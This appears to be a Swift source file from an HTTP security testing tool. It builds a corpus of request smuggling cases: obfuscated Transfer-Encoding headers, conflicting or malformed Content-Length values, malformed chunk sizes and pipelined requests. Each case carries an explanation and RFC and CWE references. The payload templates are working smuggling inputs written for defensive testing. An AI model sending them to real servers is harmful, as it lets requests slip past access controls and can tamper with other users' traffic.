// Where a message ends. In each case some backend would find a second request, for the locked prefix, in what
// is one request's body to others (request smuggling, CWE-444).

extension Corpus {
    static let framing: [AttackCase] = {
        var table = CaseTable(.framing)
        let obfuscated =
            "the backend ends the body at the last chunk, the gateway at Content-Length, or the reverse"
        for (name, lines) in obfuscations {
            table.add(
                name, post("Content-Length: {length}\r\n\(lines)", "{tail}"), why: obfuscated,
                "RFC 9112 §6.1, §6.3; CWE-444 (CL.TE, TE.TE)")
        }
        let invisible = "chunked to one side and without a body to the other"
        for (name, lines) in codings {
            table.add(
                name, post(lines, "{inner#}\r\n{inner}\r\n0\r\n\r\n"), why: invisible,
                "RFC 9112 §6.1; CWE-444 (TE.0)")
        }
        for (name, lines, why) in lengths {
            table.add(name, post(lines, "{inner}"), why: why, "RFC 9110 §8.6; RFC 9112 §6.3; CWE-444")
        }
        for (name, body, why) in chunks {
            table.add(
                name, post("Transfer-Encoding: chunked\r\n", body), why: why, "RFC 9112 §7.1; CWE-444")
        }
        table.add(
            "te-cl",
            post("Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "{inner#}\r\n{inner}\r\n0\r\n\r\n"),
            why: "a short Content-Length behind chunked: the rest is the next request",
            "RFC 9112 §6.3; CWE-444 (TE.CL)")
        table.add(
            "te-in-1.0",
            post("Transfer-Encoding: chunked\r\n", "{inner#}\r\n{inner}\r\n0\r\n\r\n", version: "1.0"),
            why: "HTTP/1.0 has no chunked: the body is the next request", "RFC 9112 §6.1; CWE-444")
        table.add(
            "pipelined", get("{open}/{mark}") + "{inner}", requests: 2,
            why: "only the first request of a connection is judged", "RFC 9112 §9.3.2; CWE-863")
        table.add(
            "pipelined-behind-body", post("Content-Length: 3\r\n", "abc{inner}"), requests: 2,
            why: "the request behind a body is forwarded with it", "RFC 9112 §9.3.2; CWE-863")
        table.add(
            "pipelined-behind-chunks",
            post("Transfer-Encoding: chunked\r\n", "3\r\nabc\r\n0\r\n\r\n{inner}"), requests: 2,
            why: "the request behind a last chunk is forwarded with it", "RFC 9112 §9.3.2; CWE-863")
        table.add(
            "connection-content-length",
            post("Content-Length: {length}\r\nConnection: Content-Length\r\n", "{inner}"),
            why: "told to remove Content-Length at this hop, the gateway leaves a body without a frame",
            "RFC 9110 §7.6.1; CWE-444")
        table.add(
            "connection-transfer-encoding",
            post(
                "Transfer-Encoding: chunked\r\nConnection: close, Transfer-Encoding\r\n",
                "{inner#}\r\n{inner}\r\n0\r\n\r\n"),
            why: "the same with Transfer-Encoding", "RFC 9110 §7.6.1; CWE-444")
        return table.cases
    }()

    /// Beside a Content-Length that covers the whole body, which is a last chunk and a hidden request.
    private static let obfuscations: [(String, String)] = [
        ("cl-te", "Transfer-Encoding: chunked\r\n"),
        ("te-upper-case", "Transfer-Encoding: CHUNKED\r\n"),
        ("te-xchunked", "Transfer-Encoding: xchunked\r\n"),
        ("te-space-colon", "Transfer-Encoding : chunked\r\n"),
        ("te-tab-colon", "Transfer-Encoding\t: chunked\r\n"),
        ("te-tab-value", "Transfer-Encoding:\tchunked\r\n"),
        ("te-quoted", "Transfer-Encoding: \"chunked\"\r\n"),
        ("te-parameter", "Transfer-Encoding: chunked;q=1\r\n"),
        ("te-identity-last", "Transfer-Encoding: chunked, identity\r\n"),
        ("te-identity-first", "Transfer-Encoding: identity, chunked\r\n"),
        ("te-twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"),
        ("te-twice-reversed", "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked\r\n"),
        ("te-folded-value", "Transfer-Encoding:\r\n chunked\r\n"),
        ("te-folded-line", "X-Fold: a\r\n Transfer-Encoding: chunked\r\n"),
        ("te-behind-lf", "X-A: a\nTransfer-Encoding: chunked\r\n"),
        ("te-behind-cr", "X-A: a\rTransfer-Encoding: chunked\r\n"),
        ("te-nul", "Transfer-Encoding: chunked\u{0}x\r\n"),
        ("te-vertical-tab", "Transfer-Encoding: \u{B}chunked\r\n"),
        ("te-trailing-form-feed", "Transfer-Encoding: chunked\u{C}\r\n"),
        ("te-name-nul", "Transfer-Encoding\u{0}: chunked\r\n"),
        ("te-underscore", "Transfer_Encoding: chunked\r\n"),
        ("te-latin-1", "Transfer-Encoding: \u{FF}chunked\r\n"),
        ("te-empty-member", "Transfer-Encoding: ,chunked\r\n"),
    ]

    /// Codings that one reader takes for chunked and another does not know, without a Content-Length.
    private static let codings: [(String, String)] = [
        ("te-unknown-alone", "Transfer-Encoding: x-chunked\r\n"),
        ("te-chunked-not-last", "Transfer-Encoding: chunked, gzip\r\n"),
        ("te-spaced-alone", "Transfer-Encoding : chunked\r\n"),
        ("te-chunked-chunked", "Transfer-Encoding: chunked, chunked\r\n"),
    ]

    private static let lengths: [(String, String, String)] = [
        (
            "two-lengths", "Content-Length: {length}\r\nContent-Length: 0\r\n",
            "two lengths, of which one counts"
        ),
        ("two-lengths-reversed", "Content-Length: 0\r\nContent-Length: {length}\r\n", "the same reversed"),
        ("length-list", "Content-Length: {length}, 0\r\n", "two lengths in one field"),
        ("length-list-empty", "Content-Length: {length},\r\n", "a list with an empty member"),
        ("length-plus", "Content-Length: +{length}\r\n", "a sign that only some number parsers take"),
        ("length-minus", "Content-Length: -{length}\r\n", "a negative length"),
        ("length-hexadecimal", "Content-Length: 0x{inner#}\r\n", "a hexadecimal length, zero to others"),
        ("length-space", "Content-Length: 0 {length}\r\n", "two numbers, a space apart"),
        ("length-junk", "Content-Length: {length}abc\r\n", "digits with letters behind them"),
        ("length-underscore", "Content-Length: {length}_0\r\n", "a number in the spelling of a language"),
        ("length-fraction", "Content-Length: {length}.0\r\n", "a number with a fraction"),
        ("length-exponent", "Content-Length: 0e9\r\n", "an exponent"),
        ("length-64-bits", "Content-Length: 18446744073709551616\r\n", "zero where numbers have 64 bits"),
        ("length-empty", "Content-Length:\r\n", "an empty length"),
        ("length-quoted", "Content-Length: \"{length}\"\r\n", "a length in quotes"),
        ("length-space-colon", "Content-Length : {length}\r\n", "a length some do not see"),
        ("length-folded", "Content-Length:\r\n {length}\r\n", "a length on a folded line"),
        ("length-behind-cr", "X-A: a\rContent-Length: {length}\r\n", "a length behind a bare CR"),
        ("length-nul", "Content-Length: 0\u{0}{length}\r\n", "a number with a NUL in it"),
        ("length-vertical-tab", "Content-Length: 0\u{B}{length}\r\n", "a number with a vertical tab in it"),
    ]

    private static let chunks: [(String, String, String)] = [
        ("chunk-hexadecimal-prefix", "0x{inner#}\r\n{inner}\r\n0\r\n\r\n", "a size that is zero up to its x"),
        ("chunk-plus", "+0\r\n\r\n{inner}", "a size with a sign"),
        ("chunk-minus", "-0\r\n\r\n{inner}", "a size below zero"),
        ("chunk-32-bits", "100000000\r\n\r\n{inner}", "a size that is zero in 32 bits"),
        ("chunk-64-bits", "10000000000000000\r\n\r\n{inner}", "a size that is zero in 64 bits"),
        ("chunk-empty-size", "\r\n\r\n{inner}", "no size at all"),
        ("chunk-junk-size", "0z\r\n\r\n{inner}", "letters behind the digits"),
        ("chunk-underscore", "0_0\r\n\r\n{inner}", "a size in the spelling of a language"),
        ("chunk-leading-space", " 0\r\n\r\n{inner}", "a space in front of the size"),
        ("chunk-bare-lf", "0\n\n{inner}", "lines that end in LF alone"),
        ("chunk-bare-cr", "0\r\r{inner}", "lines that end in CR alone"),
        (
            "chunk-extension-lf", "2;\nxx\r\n{tail#}\r\n{tail}\r\n0\r\n\r\n",
            "an LF inside an extension ends the size line for some (advisories of 2025, TERM.EXT)"
        ),
        (
            "chunk-extension-cr", "2;\rxx\r\n{tail#}\r\n{tail}\r\n0\r\n\r\n",
            "a CR inside an extension ends the size line for some"
        ),
        ("chunk-data-overrun", "3\r\nabcXX0\r\n\r\n{inner}", "two bytes behind the data skipped unseen"),
        ("chunk-data-lf", "3\r\nabc\n0\r\n\r\n{inner}", "data that ends in LF alone"),
        ("chunk-nul", "0\u{0}\r\n\r\n{inner}", "a NUL behind the size"),
    ]
}
